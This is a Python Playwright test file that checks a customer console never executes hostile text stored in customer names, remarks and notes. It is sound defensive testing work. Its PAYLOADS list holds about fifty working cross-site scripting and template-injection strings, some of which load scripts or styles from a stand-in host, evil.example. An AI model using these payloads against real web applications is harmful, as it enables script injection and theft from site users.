"""Whatever a customer calls themselves, no page of the console runs it."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page
from sqlalchemy import select

from console import doors
from people import persons
from soak import many
from storage.tables import Interaction, Person, Relation
from tests.browser.conftest import Open, signed_in
from tests.console.acting import REPS
from tests.console.test_doors import OBJECTS

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "{{7*7}}${7*7}<%=7*7%>",
    "%(rep)s %s %n %",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "\u202e<b>txt\u2028</script><script>alert(1)//",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><button>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js>",
    "<script>alert`1`</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x:x onerror\t=\talert(1)>",
    "<img src='x' onerror='&#97;lert(1)'>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data='javascript:alert(1)'>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>",
    "'-alert(1)-'",
    '";alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)


@pytest.fixture(scope="module")
def hostile(open_shop: Open) -> Open:
    """Payloads in every place that comes from outside: nickname, company, remark, description, channel state, note."""
    shop = open_shop.counter.shop
    for number, payload in enumerate(PAYLOADS):
        shop.world.scan(open_shop.counter.channel, name=payload, userid=REPS[number % len(REPS)])
        shop.catch_up()
        shop.advance(seconds=2)
    with shop.work() as work:
        for person in work.db.scalars(select(Person)).all():
            text = PAYLOADS[person.id % len(PAYLOADS)]
            person.kind, person.corp_name = 2, text
            for number, kind in enumerate(("note", "tagged", "transfer_failed", text[:40])):
                told = PAYLOADS[(4 * person.id + number) % len(PAYLOADS)]
                details = {"text": told, "by": told, "channel": told, "reason": told, "tag": told}
                once = f"x:{person.id}:{kind}"
                persons.tell(work, person.id, kind, work.now, once=once, details=details)
        for relation in work.db.scalars(select(Relation)).all():
            text = PAYLOADS[relation.id % len(PAYLOADS)]
            relation.remark, relation.description, relation.source_state = text, text, text[:64]
        assert work.db.scalar(select(Interaction.id).limit(1))
    return open_shop


@pytest.fixture
def page(browser: Browser, hostile: Open) -> Iterator[Page]:
    yield from signed_in(browser, hostile)


def addresses(hostile: Open) -> list[str]:
    """Every page of the console that can be looked at, and a dozen people, whose stories hold all the payloads."""
    app, counter = hostile.counter.shop.app, hostile.counter
    boss, found = counter.visitor("zhangsan"), []
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()) or doors.right_of(app, rule.endpoint) is None:
            continue
        values = {name: OBJECTS[name](counter, "lisi") for name in rule.arguments}
        path = app.url_map.bind("localhost").build(rule.endpoint, values)
        answer = boss.get(path)
        if (answer.status_code, answer.mimetype) == (200, "text/html"):
            found.append(path)
    people = [f"/customers/p_{person.id}" for person in counter.shop.rows(Person)][-many(13, 1000) :]
    return [*found, *people, "/?lang=en", '/customers?q=<script>alert(1)</script>&owner="><svg onload=alert(1)>']


def test_no_page_runs_what_a_customer_calls_themselves(page: Page, hostile: Open) -> None:
    dialogs: list[str] = []
    reports: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda line: reports.append(line.text) if "Content Security" in line.text else None)
    page.on("pageerror", lambda error: reports.append(str(error)))
    seen = 0
    for address in addresses(hostile):
        answer = page.goto(hostile.address + address, wait_until="load")
        assert page.url.startswith(hostile.address), address
        if answer is not None and answer.status == 200:
            seen += page.locator("main").count()
            assert page.locator("main script, main iframe, main base, main style").count() == 0, address
    assert (dialogs, reports) == ([], [])
    assert seen > 20


def test_a_hostile_name_is_shown_as_it_was_written(page: Page, hostile: Open) -> None:
    page.goto(f"{hostile.address}/customers")
    names = page.locator("a.row-link").all_inner_texts()
    assert "<script>alert(1)</script>" in names
    assert "{{7*7}}${7*7}<%=7*7%>" in names


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_is_wider_than_a_phone(browser: Browser, hostile: Open, scheme: str) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 800}, color_scheme=scheme)
    cookie = hostile.counter.visitor("zhangsan").client.get_cookie("scrm")
    assert cookie is not None
    context.add_cookies([{"name": "scrm", "value": cookie.value, "url": hostile.address}])
    page = context.new_page()
    for address in ("/", "/customers", f"/customers/p_{hostile.counter.people['lisi']}", "/welcomes", "/my-sign-in"):
        page.goto(hostile.address + address)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, address
    context.close()
